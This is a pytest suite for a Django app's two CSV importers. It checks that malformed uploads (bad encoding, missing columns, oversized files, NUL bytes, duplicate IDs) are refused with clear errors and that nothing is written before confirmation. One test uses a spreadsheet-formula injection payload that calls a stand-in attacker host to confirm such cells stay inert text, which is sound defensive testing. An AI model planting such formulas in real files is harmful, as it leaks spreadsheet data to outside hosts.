"""Bad files for both CSV imports (links in bulk, partner records): every one gets a clear
error naming what to fix, and nothing is written until a clean preview is confirmed."""

from __future__ import annotations

import re
from dataclasses import dataclass
from html import unescape

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from links.models import Flow, Link, LinkBatch
from meters.models import PartnerImport, PartnerRecord

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@dataclass
class Importer:
    name: str
    header: str  # the columns a valid file starts with
    row: str  # one valid row, {n} numbered

    def rows(self, count: int, start: int = 1) -> str:
        return "".join(self.row.format(n=n) for n in range(start, start + count))

    def upload(self, client, content: bytes) -> tuple[str, object | None]:
        """(the error shown to the user, or "", and the preview batch if one was made)."""
        file = SimpleUploadedFile("upload.csv", content, content_type="text/csv")
        if self.name == "links":
            flow = Flow.objects.get(title="spring")
            response = client.post(
                "/links/import/", {"kind": "connect", "flow": flow.pk, "file": file}
            )
            if response.status_code == 302:
                return "", LinkBatch.objects.get(pk=response["Location"].split("/")[-2])
            assert response.status_code == 200
            html = response.content.decode()
            errors = re.findall(r"<li>(.*?)</li>", html.split('class="errorlist', 1)[-1])
            return unescape(errors[0]) if errors else "", None
        response = client.post("/meters/partners/upload/", {"file": file}, follow=True)
        assert response.status_code == 200
        shown = [str(m) for m in response.context["messages"] if m.level_tag == "error"]
        batch = PartnerImport.objects.order_by("-pk").first()
        return (shown[0] if shown else ""), batch

    def confirm(self, client, batch) -> None:
        if self.name == "links":
            client.post(f"/links/import/{batch.pk}/confirm/")
        else:
            client.post(f"/meters/partners/imports/{batch.pk}/confirm/")

    def written(self) -> int:
        return Link.objects.count() if self.name == "links" else PartnerRecord.objects.count()

    def batches(self) -> int:
        model = LinkBatch if self.name == "links" else PartnerImport
        return model.objects.count()


LINKS = Importer("links", "ref_id,name,email\n", "cust-{n},Customer {n},c{n}@example.com\n")
PARTNERS = Importer("partners", "reference,name,address\n", "cust-{n},Customer {n},{n} Main St\n")


@pytest.fixture(params=[LINKS, PARTNERS], ids=["links", "partners"])
def importer(request, db):
    Flow.objects.create(org_name="test-energy", title="spring", region="CAISO")
    return request.param


def test_a_utf8_bom_is_accepted(pm_client, importer):
    content = ("\ufeff" + importer.header + importer.rows(2)).encode()
    error, batch = importer.upload(pm_client, content)
    assert error == ""
    assert len(batch.rows) == 2
    assert not batch.errors


def test_latin_1_is_refused_naming_the_line(pm_client, importer):
    content = (importer.header + importer.rows(2)).encode() + "cust-9,Zoë,x\n".encode("latin-1")
    error, batch = importer.upload(pm_client, content)
    assert "not UTF-8" in error
    assert "line 4" in error
    assert importer.batches() == 0
    assert importer.written() == 0


@pytest.mark.parametrize("header", ["name,email\n", "customer,mail,address\n"])
def test_missing_columns_are_named(pm_client, importer, header):
    error, _ = importer.upload(pm_client, (header + "a,b,c\n").encode())
    assert "has no" in error
    assert ("ref_id" if importer is LINKS else "reference") in error
    assert importer.batches() == 0


@pytest.mark.parametrize("content", [b"", b"\n\n", b" , , \n"], ids=["0-bytes", "blank", "commas"])
def test_an_empty_file_is_refused(pm_client, importer, content):
    error, _ = importer.upload(pm_client, content)
    assert "The file is empty" in error
    assert importer.batches() == 0


def test_a_file_over_the_size_limit_is_refused_whole(pm_client, importer):
    limit_mb = 10 if importer is LINKS else 20
    padding = b"x" * (limit_mb * 1024 * 1024 + 1)
    error, _ = importer.upload(pm_client, importer.header.encode() + padding)
    assert f"{limit_mb}" in error
    assert "MB" in error
    assert importer.batches() == 0


def test_a_10_mb_file_of_rows_is_refused_for_its_row_count(pm_client, importer):
    """Under the byte limit but over the row limit: refused before anything is stored."""
    content = importer.header.encode() + importer.rows(60_000, start=100_000).encode()
    # blank lines count for bytes, not rows: the file reaches 10 MB under the 20 MB limit
    content += b"\n" * max(0, 10 * 1024 * 1024 - len(content))
    error, _ = importer.upload(pm_client, content)
    assert "more than" in error
    assert "rows" in error
    assert importer.batches() == 0


def test_formula_cells_are_kept_as_text_shown_escaped_and_never_run(pm_client, importer):
    quoted = '"' + FORMULA.replace('"', '""') + '"'
    content = (importer.header + f"cust-1,{quoted},a@b.co\n").encode()
    error, batch = importer.upload(pm_client, content)
    assert error == ""
    assert batch.rows[0]["name"] == FORMULA  # the partner's text, unchanged
    page = pm_client.get(
        f"/links/import/{batch.pk}/"
        if importer is LINKS
        else f"/meters/partners/imports/{batch.pk}/"
    ).content.decode()
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;Click&quot;)" in page
    importer.confirm(pm_client, batch)
    assert importer.written() == 1
    if importer is LINKS:  # the partner side's exports are checked in test_csv_exports.py
        export = pm_client.get(f"/links/import/{batch.pk}/links.csv")
        body = b"".join(export.streaming_content).decode()
        assert "'=HYPERLINK" in body
        assert ",=HYPERLINK" not in body


def test_duplicate_ref_ids_are_row_errors_naming_the_first_line(pm_client, importer):
    content = (importer.header + importer.rows(3) + importer.row.format(n=2)).encode()
    error, batch = importer.upload(pm_client, content)
    assert error == ""
    assert len(batch.errors) == 1
    assert batch.errors[0]["line"] == 5
    assert "line 3" in batch.errors[0]["message"]
    assert importer.written() == 0  # nothing before confirmation


def test_partner_records_with_any_row_error_import_nothing(pm_client, db):
    Flow.objects.create(org_name="test-energy", title="spring", region="CAISO")
    content = (PARTNERS.header + PARTNERS.rows(500) + "bad/ref,X,Y\n").encode()
    _, batch = PARTNERS.upload(pm_client, content)
    assert isinstance(batch, PartnerImport)
    PARTNERS.confirm(pm_client, batch)
    assert PartnerRecord.objects.count() == 0
    batch.refresh_from_db()
    assert batch.status == PartnerImport.Status.PREVIEW


@pytest.mark.parametrize("where", ["name", "ref"])
def test_a_nul_byte_is_a_clear_error_not_a_server_error(pm_client, importer, where):
    """PostgreSQL refuses U+0000 in text and JSON (it was a 500 before links/bulk.py's reader
    refused it): the file is refused, naming the line."""
    row = "cust-1,Ann\x00ie,a@b.co\n" if where == "name" else "cu\x00st-1,Annie,a@b.co\n"
    content = (importer.header + importer.rows(1, start=5) + row).encode()
    error, _ = importer.upload(pm_client, content)
    assert error == (
        "Line 3 contains a NUL byte, so the file is not plain text. "
        "Save it as “CSV UTF-8” and upload it again."
    )
    assert importer.batches() == 0
    assert importer.written() == 0
